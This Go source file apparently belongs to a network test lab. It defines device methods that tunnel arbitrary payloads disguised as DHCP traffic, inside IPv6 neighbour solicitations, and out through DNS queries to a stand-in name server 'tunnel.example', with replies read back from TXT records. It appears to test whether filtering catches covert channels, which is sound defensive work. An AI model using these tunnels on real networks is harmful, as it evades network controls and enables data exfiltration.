package lab

import (
	"context"
	"encoding/hex"
	"fmt"
	"net/netip"
	"strings"

	"golang.org/x/net/dns/dnsmessage"
)

// TunnelDHCP sends a payload that is no DHCP from port 68 to port 67 of to.
func (d *Device) TunnelDHCP(via MAC, to netip.Addr, payload []byte) error {
	from := netip.AddrPortFrom(d.IPv4(), 68)
	return d.SendFrame(IP(via, d.CurrentMAC(), UDP(from, netip.AddrPortFrom(to, 67), payload)))
}

// TunnelND sends a payload in what looks like a neighbour solicitation to any IPv6 address.
func (d *Device) TunnelND(via MAC, to netip.Addr, payload []byte) error {
	mac := d.CurrentMAC()
	body := append(append(make([]byte, 4), to.AsSlice()...), payload...)
	return d.SendFrame(IP(via, mac, ICMPv6(linkLocal(mac), to, typeNeighborSolicit, body)))
}

// tunnelOwner is whose name server the DNS tunnel leads to.
const tunnelOwner = "tunnel.example"

// TunnelDNS carries up to 60 bytes out in a name that it asks the router's resolver for, and returns what
// came back in TXT records. The far end counts it under Asked("tunnel.example").
func (d *Device) TunnelDNS(ctx context.Context, payload []byte) ([]byte, error) {
	text := hex.EncodeToString(payload)
	if len(text) > 120 {
		return nil, fmt.Errorf("tunnel by DNS: %d bytes are more than 60", len(payload))
	}
	half := len(text) / 2
	name := strings.Trim(text[:half]+"."+text[half:]+"."+tunnelOwner, ".")
	answers, err := d.query(ctx, "udp", dnsmessage.TypeTXT, name)
	if err != nil {
		return nil, fmt.Errorf("tunnel by DNS: %w", err)
	}
	var back []byte
	for _, a := range answers {
		if txt, ok := a.Body.(*dnsmessage.TXTResource); ok {
			back = append(back, strings.Join(txt.TXT, "")...)
		}
	}
	return back, nil
}
